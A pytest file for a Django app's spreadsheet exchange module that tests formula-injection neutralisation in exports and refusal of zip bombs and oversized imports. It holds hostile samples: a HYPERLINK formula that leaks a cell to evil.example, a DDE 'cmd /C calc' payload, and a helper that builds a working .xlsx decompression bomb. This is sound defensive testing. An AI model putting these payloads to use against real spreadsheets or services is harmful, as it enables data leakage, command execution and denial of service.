"""Safe exchange (issue 9, item 4): exports of hostile cells are inert (no formulas, no
control characters), and workbooks that inflate, or have rows, past the limits are refused
before they are read (a zip bomb in well under a second)."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from xianfeng.exchange.importers import run_import
from xianfeng.exchange.models import ImportRun
from xianfeng.exchange.readers import FileRefused
from xianfeng.exchange.sheets import inert, template_csv
from xianfeng.exchange.tests.conftest import MEMBER_HEAD, make_id, xlsx_bytes
from xianfeng.people.models import PartyMember, Person
from xianfeng.places.models import Building

pytestmark = pytest.mark.django_db

G01 = "XF-S01-C01-G01"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    # No NUL here: PostgreSQL cannot store one (and the forms refuse it); inert() drops NUL
    # too, tested on its own below.
    "地址\x01有\x07控制\x1b字符\x7f",
]


def _assert_inert(content: bytes) -> list[list]:
    """Every sheet of the workbook: no formula cell, no control character but \\t \\n \\r."""
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not any(
                        (ord(ch) < 32 and ch not in "\t\n\r") or 0x7F <= ord(ch) <= 0x9F
                        for ch in cell.value
                    ), repr(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
            values.append([c.value for c in row])
    return values


def test_inert_quotes_formula_leaders_and_keeps_numbers():
    assert inert("=1+1") == "'=1+1"
    assert inert("-2") == "'-2"
    assert inert("a\x00b\x0bc") == "abc"
    assert inert("第一行\n第二行\t制表") == "第一行\n第二行\t制表"
    assert inert(-5) == -5 and inert(Decimal("-1.5")) == Decimal("-1.5")
    assert inert(None) is None


def test_a_building_export_of_hostile_cells_is_inert(client_for, personas):
    building = Building.objects.restrict(personas["shequ"]).order_by("pk").first()
    Building.objects.filter(pk=building.pk).update(
        name=HOSTILE[0],
        address=HOSTILE[6],
        owner_name=HOSTILE[3],
        longitude=Decimal("-1.500000"),
    )
    response = client_for("shequ").get("/exchange/export/buildings/")
    assert response.status_code == 200
    rows = _assert_inert(response.content)
    row = next(r for r in rows if r[0] == building.code)
    assert row[1] == "'" + HOSTILE[0]
    assert row[2] == "地址有控制字符"
    assert row[7] == "'@SUM(A1:A2)"
    # a negative number stored as a number stays a number
    assert row[9] == pytest.approx(-1.5)


def test_a_member_export_with_every_formula_leader_is_inert(client_for, personas):
    members = list(PartyMember.objects.restrict(personas["shequ"]).order_by("pk")[: len(HOSTILE)])
    for member, value in zip(members, HOSTILE, strict=True):
        PartyMember.objects.filter(pk=member.pk).update(work_unit=value, current_place=value)
    response = client_for("shequ").get("/exchange/export/members/")
    assert response.status_code == 200
    rows = _assert_inert(response.content)
    units = {r[12] for r in rows[1:]}
    # (XML turns the carriage return into a newline on the way; the quote stays in front)
    assert "'" + HOSTILE[0] in units and "'\t=1+1" in units and "'\n=1+1" in units


def test_the_background_export_is_inert_too(personas, settings):
    from xianfeng.exchange.exports import EXPORTS, _write

    building = Building.objects.restrict(personas["qu"]).order_by("pk").first()
    Building.objects.filter(pk=building.pk).update(name="=cmd|' /C calc'!A0\x01")
    target = io.BytesIO()
    _write(user=personas["qu"], spec=EXPORTS["buildings"], params={}, full=False, target=target)
    _assert_inert(target.getvalue())


def test_the_import_report_of_hostile_rejected_rows_is_inert(
    client_for, django_capture_on_commit_callbacks
):
    client = client_for("shequ")
    rows = [
        [HOSTILE[0], "12345", G01, "", "", "", ""],
        ["@SUM(1)", "-999", G01, "", "", "", ""],
    ]
    # CSV, so the hostile text arrives as text (an .xlsx formula without a cached value reads
    # as empty)
    buffer = io.StringIO()
    csv.writer(buffer).writerows([MEMBER_HEAD, *rows])
    upload = SimpleUploadedFile("党员.csv", buffer.getvalue().encode("utf-8"))
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/exchange/imports/new/", {"kind": "members", "file": upload})
    run = ImportRun.objects.get()
    assert run.rejected == 2
    report = client.get(f"/exchange/imports/{run.pk}/report.xlsx")
    assert report.status_code == 200
    values = _assert_inert(report.content)
    assert any("'" + HOSTILE[0] in row for row in values)


def test_the_csv_template_is_inert():
    text = template_csv("members").decode("utf-8-sig")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())


# --- imports refused before reading ---------------------------------------------------------


def _bomb(path, rows: int = 3_000_000, level: int = 1) -> None:
    """A .xlsx whose one sheet inflates to ~216 MB and declares 3,000,000 rows, yet is well
    under a megabyte on disk."""
    row = b'<row><c t="inlineStr"><is><t>xxxxxxxxxxxxxxxxxxxxxxxxx</t></is></c></row>'
    chunk = row * 10_000
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"/>',
        )
        zf.writestr(
            "xl/workbook.xml",
            '<workbook xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>",
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<worksheet><dimension ref="A1:A{rows}"/><sheetData>'.encode())
            for _ in range(rows // 10_000):
                fh.write(chunk)
            fh.write(b"</sheetData></worksheet>")


def test_a_zip_bomb_is_refused_in_under_a_second(personas, tmp_path):
    path = tmp_path / "bomb.xlsx"
    _bomb(path)
    assert path.stat().st_size < 2 * 1024 * 1024
    with zipfile.ZipFile(path) as zf:
        assert sum(i.file_size for i in zf.infolist()) > 200 * 1024 * 1024
    before = Person.objects.count()
    started = time.monotonic()
    with pytest.raises(FileRefused) as refused:
        run_import(
            kind="members",
            path=str(path),
            filename="bomb.xlsx",
            user=personas["shequ"],
            dry_run=True,
        )
    assert time.monotonic() - started < 1.0
    assert "MB" in str(refused.value) and "200" in str(refused.value)
    assert Person.objects.count() == before


def test_a_member_inflating_too_many_times_is_refused(personas, tmp_path, settings):
    settings.XIANFENG_IMPORT_MAX_INFLATED_BYTES = 10**10
    path = tmp_path / "ratio.xlsx"
    _bomb(path, rows=100_000, level=9)
    with pytest.raises(FileRefused) as refused:
        run_import(
            kind="members",
            path=str(path),
            filename="r.xlsx",
            user=personas["shequ"],
            dry_run=True,
        )
    assert "倍" in str(refused.value) and "200" in str(refused.value)


def test_a_declared_row_count_over_the_limit_is_refused(personas, tmp_path, settings):
    settings.XIANFENG_IMPORT_MAX_ROWS = 1000
    content = xlsx_bytes([MEMBER_HEAD, *[["甲", make_id(i), G01] for i in range(1200)]])
    path = tmp_path / "many.xlsx"
    path.write_bytes(content)
    with pytest.raises(FileRefused) as refused:
        run_import(
            kind="members",
            path=str(path),
            filename="m.xlsx",
            user=personas["shequ"],
            dry_run=True,
        )
    assert "1000行" in str(refused.value) and "1200" in str(refused.value)


def test_a_sheet_lying_about_its_size_is_stopped_at_the_limit(personas, tmp_path, settings):
    settings.XIANFENG_IMPORT_MAX_ROWS = 20
    rows = [MEMBER_HEAD, *[["甲", make_id(700 + i), G01] for i in range(40)]]
    content = xlsx_bytes(rows)
    # remove the <dimension> element so the size is not declared
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                import re

                data = re.sub(rb"<dimension[^>]*/>", b"", data)
            dst.writestr(info, data)
    path = tmp_path / "lying.xlsx"
    path.write_bytes(out.getvalue())
    before = Person.objects.count()
    with pytest.raises(FileRefused) as refused:
        run_import(
            kind="members",
            path=str(path),
            filename="l.xlsx",
            user=personas["shequ"],
            dry_run=False,
            valid_only=True,
        )
    assert "20行" in str(refused.value)
    assert Person.objects.count() == before


def test_a_csv_with_too_many_rows_is_refused(personas, tmp_path, settings):
    settings.XIANFENG_IMPORT_MAX_ROWS = 10
    lines = [",".join(MEMBER_HEAD)] + [f"甲,{make_id(800 + i)},{G01}" for i in range(30)]
    path = tmp_path / "many.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(FileRefused, match="10行"):
        run_import(
            kind="members",
            path=str(path),
            filename="m.csv",
            user=personas["shequ"],
            dry_run=True,
        )


def test_a_bomb_uploaded_through_the_api_is_refused_with_the_limit(
    client_for, tmp_path, django_capture_on_commit_callbacks
):
    path = tmp_path / "bomb.xlsx"
    _bomb(path)
    client = client_for("shequ")
    started = time.monotonic()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/imports",
            {"kind": "members", "file": SimpleUploadedFile("bomb.xlsx", path.read_bytes())},
        )
    assert time.monotonic() - started < 2.0
    assert response.status_code == 202, response.content
    body = client.get(f"/api/v1/imports/{response.json()['id']}").json()
    assert body["status"] == "refused"
    assert "200 MB" in body["message"]
